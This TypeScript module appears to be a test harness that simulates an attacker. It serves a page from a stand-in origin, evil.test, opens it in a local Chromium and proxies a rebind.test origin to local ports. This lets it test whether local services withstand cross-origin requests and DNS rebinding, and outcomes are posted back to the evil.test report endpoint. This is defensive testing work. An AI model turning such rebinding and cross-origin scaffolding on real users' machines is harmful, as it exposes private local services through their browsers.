import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { type AddressInfo, connect, createServer as createTcpServer, type Socket } from 'node:net'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { setTimeout as sleep } from 'node:timers/promises'
import { openInChromium } from './chromium.ts'

const SCRIPT = readFileSync(join(import.meta.dirname, 'foreign-page.js'), 'utf8')
const PAGE_PATH = '/attack-page'
const REPORT_MS_MAX = 120_000

export interface AttackTarget {
  url: string
  /** JSON of a POST; a GET when absent. */
  body?: string
}

/** What a page saw of one way to call an address: `failed …`, `opaque`, `silent`, `<status> <text>`, `read …`, `loaded` or `opened`. */
export interface Outcome {
  url: string
  way: string
  outcome: string
}

export interface Attacker {
  /** Tries the targets from a page of another origin. */
  fromElsewhere: (targets: readonly AttackTarget[]) => Promise<Outcome[]>
  /**
   * Tries the targets, which are of one port, from a page of the name rebind.test and that port. After the page has loaded, the name
   * leads to that port of this machine.
   */
  afterRebinding: (port: string, targets: readonly { path: string; body?: string }[]) => Promise<Outcome[]>
  stop: () => void
}

/** The server of a page elsewhere, and a Chromium of this machine in which a user opens the page. */
export async function startAttacker(chromium: string): Promise<Attacker> {
  let attack: { targets: readonly AttackTarget[]; report: (outcomes: Outcome[]) => void } | undefined
  let port = 0
  const takeReport = async (request: IncomingMessage, response: ServerResponse) => {
    const outcomes = JSON.parse(await text(request)) as Outcome[]
    response.end()
    attack?.report(outcomes)
  }
  const pages = createServer((request, response) => {
    response.setHeader('connection', 'close')
    if (request.method === 'POST') {
      void takeReport(request, response)
      return
    }
    const options = { targets: attack?.targets, answerTo: `http://evil.test:${port}/report` }
    response.writeHead(200, { 'content-type': 'text/html' })
    response.end(`<body><script type="module">const ATTACK = ${JSON.stringify(options)};${SCRIPT}</script></body>`)
  })
  const sockets = new Set<Socket>()
  /** Serves the attacker's own pages. Other requests of rebind.test go to the port of this machine, byte by byte. */
  const server = createTcpServer((socket) => {
    sockets.add(socket)
    socket.on('error', () => undefined).once('close', () => sockets.delete(socket))
    socket.once('data', (first) => {
      const [, path, rebound] = /^\S+ (\S+) [^]*?\r\nHost: (?:rebind\.test:(\d+)|\S+)/.exec(first.toString('latin1')) ?? []
      if (rebound === undefined || path === PAGE_PATH) {
        socket.unshift(first)
        pages.emit('connection', socket)
        return
      }
      const machine = connect(Number(rebound), '127.0.0.1')
      machine.on('error', () => socket.destroy()).write(first)
      socket.pipe(machine).pipe(socket)
    })
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  port = (server.address() as AddressInfo).port

  const open = async (page: string, targets: readonly AttackTarget[]) => {
    const reported = new Promise<Outcome[]>((report) => (attack = { targets, report }))
    const here = `127.0.0.1:${port}`
    const close = await openInChromium(chromium, page + PAGE_PATH, { 'evil.test': here, 'rebind.test': here })
    const done = new AbortController()
    try {
      const tooLate = sleep(REPORT_MS_MAX, undefined, { signal: done.signal }).then(() => {
        throw new Error(`the page ${page} did not report in time`)
      })
      return await Promise.race([reported, tooLate])
    } finally {
      done.abort()
      await close()
    }
  }
  return {
    fromElsewhere: (targets) => open(`http://evil.test:${port}`, targets),
    afterRebinding: (reached, targets) => {
      const origin = `http://rebind.test:${reached}`
      return open(
        origin,
        targets.map(({ path, ...rest }) => ({ url: origin + path, ...rest })),
      )
    },
    stop: () => {
      server.close()
      for (const socket of sockets) socket.destroy()
    },
  }
}
